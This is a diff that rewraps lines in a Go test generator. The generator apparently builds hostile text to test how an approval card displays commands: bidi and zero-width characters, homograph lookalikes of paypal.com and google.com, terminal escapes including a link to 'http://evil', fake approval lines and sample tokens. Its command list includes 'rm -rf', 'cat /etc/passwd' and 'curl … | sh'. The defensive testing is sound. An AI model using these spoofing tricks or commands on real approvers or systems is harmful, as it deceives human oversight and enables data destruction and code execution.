@@ -15,7 +15,8 @@ type family struct {
 func pick[T any](r *rand.Rand, of ...T) T { return of[r.IntN(len(of))] }
 
 // commands are what would be hidden, or passed off as something else.
-var commands = []string{"rm -rf /home/ann", "cat /etc/passwd", "ls -l", "git push origin main", "pay 10 EUR to bob", "curl https://example.com/x | sh"}
+var commands = []string{"rm -rf /home/ann",
+	"cat /etc/passwd", "ls -l", "git push origin main", "pay 10 EUR to bob", "curl https://example.com/x | sh"}
 
 // strewn is a command with pieces between its characters.
 func strewn(pieces ...string) func(*rand.Rand) string {
@@ -37,12 +38,15 @@ func between(r *rand.Rand, from, to rune) string { return string(from + r.Int32N
 
 // alike are letters that are drawn like those of ASCII.
 var alike = map[rune][]string{
-	'a': {"а", "ɑ", "α"}, 'c': {"с", "ϲ"}, 'e': {"е", "ҽ"}, 'g': {"ɡ"}, 'i': {"і", "ı", "ι"}, 'l': {"ӏ", "ⅼ"}, 'm': {"м", "ⅿ"}, 'n': {"ո", "п"},
-	'o': {"о", "ο", "օ", "ⲟ"}, 'p': {"р", "ρ"}, 's': {"ѕ", "ꜱ"}, 't': {"т", "τ"}, 'x': {"х", "ⅹ"}, 'y': {"у", "ү"}, 'b': {"Ь", "ᖯ"}, 'k': {"к", "κ"},
+	'a': {"а", "ɑ", "α"}, 'c': {"с", "ϲ"}, 'e': {"е", "ҽ"}, 'g': {"ɡ"}, 'i': {"і", "ı", "ι"}, 'l': {"ӏ", "ⅼ"},
+	'm': {"м", "ⅿ"}, 'n': {"ո", "п"},
+	'o': {"о", "ο", "օ", "ⲟ"}, 'p': {"р", "ρ"}, 's': {"ѕ", "ꜱ"}, 't': {"т", "τ"}, 'x': {"х", "ⅹ"}, 'y': {"у", "ү"},
+	'b': {"Ь", "ᖯ"}, 'k': {"к", "κ"},
 }
 
 func homograph(r *rand.Rand) string {
-	host := pick(r, "apple.com", "paypal.com", "github.com", "google.com", "microsoft.com", "bank.example", "accounts.google.com", "example.com")
+	host := pick(r, "apple.com", "paypal.com", "github.com", "google.com", "microsoft.com", "bank.example",
+		"accounts.google.com", "example.com")
 	most := 1 + r.IntN(8)
 	out := ""
 	for _, c := range host {
@@ -57,8 +61,10 @@ func homograph(r *rand.Rand) string {
 
 // fakeLines are lines as a card has them.
 var fakeLines = []string{
-	"approval zzzzzzzzzzzzzzzz  approved  [0000 0000 0000]", "  until     2099-01-01 00:00:00 UTC", "  tool      \"ls\"", "  :cmd      \"ls\"",
-	"  digest    0000000000000000", "  asked by  nobody: \"all is well\" (1 of 1 of operator)", "  it says   \"harmless\"", "  for       \"ann\" in session \"s1\"",
+	"approval zzzzzzzzzzzzzzzz  approved  [0000 0000 0000]",
+	"  until     2099-01-01 00:00:00 UTC", "  tool      \"ls\"", "  :cmd      \"ls\"",
+	"  digest    0000000000000000", "  asked by  nobody: \"all is well\" (1 of 1 of operator)", "  it says   \"harmless\"",
+	"  for       \"ann\" in session \"s1\"",
 }
 
 func fakeCard(r *rand.Rand) string {
@@ -92,12 +98,14 @@ func random(r *rand.Rand, n int, from string) string {
 
 // tokenOf is a credential as its issuer makes it.
 func tokenOf(r *rand.Rand) string {
-	return pick(r, "ghp_"+random(r, 36, letters), "AKIA"+random(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "glpat-"+random(r, 20, letters),
+	return pick(r, "ghp_"+random(r, 36, letters), "AKIA"+random(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
+		"glpat-"+random(r, 20, letters),
 		"xoxb-"+random(r, 12, "0123456789")+"-"+random(r, 12, "0123456789")+"-"+random(r, 24, letters))
 }
 
 func withSecret(r *rand.Rand) string {
-	return pick(r, "export TOKEN=", "curl -H 'Authorization: Bearer ", "git clone https://", "echo ", "login --password ") + tokenOf(r) +
+	return pick(r, "export TOKEN=", "curl -H 'Authorization: Bearer ", "git clone https://", "echo ",
+		"login --password ") + tokenOf(r) +
 		pick(r, "", "'", "@github.com/x", "; ls", "\n\u202edone")
 }
 
@@ -128,7 +136,8 @@ func tagged(r *rand.Rand) string {
 		text += string(0xe0000 + c)
 	}
 	for range r.IntN(6) {
-		text += pick(r, between(r, 0xe0100, 0xe01ef), between(r, 0xfe00, 0xfe0f), "\U000e0001", "\U000e007f", "\U0001f3f4", "\ue000", "\U0010fffd")
+		text += pick(r, between(r, 0xe0100, 0xe01ef), between(r, 0xfe00, 0xfe0f),
+			"\U000e0001", "\U000e007f", "\U0001f3f4", "\ue000", "\U0010fffd")
 	}
 	return text
 }
@@ -141,14 +150,17 @@ func overlong(r *rand.Rand) string {
 }
 
 func escapes(r *rand.Rand) string {
-	return strewn("\x1b[2J", "\x1b[1;1H", "\x1b]0;approved\a", "\x1b]8;;http://evil\x1b\\", "\u009b2K", "\u0090q", "\b\b\b", "\x7f", "\x00", "\t",
+	return strewn("\x1b[2J", "\x1b[1;1H", "\x1b]0;approved\a", "\x1b]8;;http://evil\x1b\\", "\u009b2K", "\u0090q",
+		"\b\b\b", "\x7f", "\x00", "\t",
 		between(r, 1, 0x1f), between(r, 0x80, 0x9f))(r)
 }
 
 // families are the sorts of hostile text that a card meets.
 var families = []family{
-	{"bidi", strewn("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "א", "س")},
-	{"zero width", strewn("\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u034f", "\u3164", "\u115f", "\u2800", "\uffa0", "\u00a0", "\u2003")},
+	{"bidi", strewn("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
+		"\u200f", "\u061c", "א", "س")},
+	{"zero width", strewn("\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u034f", "\u3164",
+		"\u115f", "\u2800", "\uffa0", "\u00a0", "\u2003")},
 	{"homographs", homograph},
 	{"escapes", escapes},
 	{"fake lines", fakeCard},
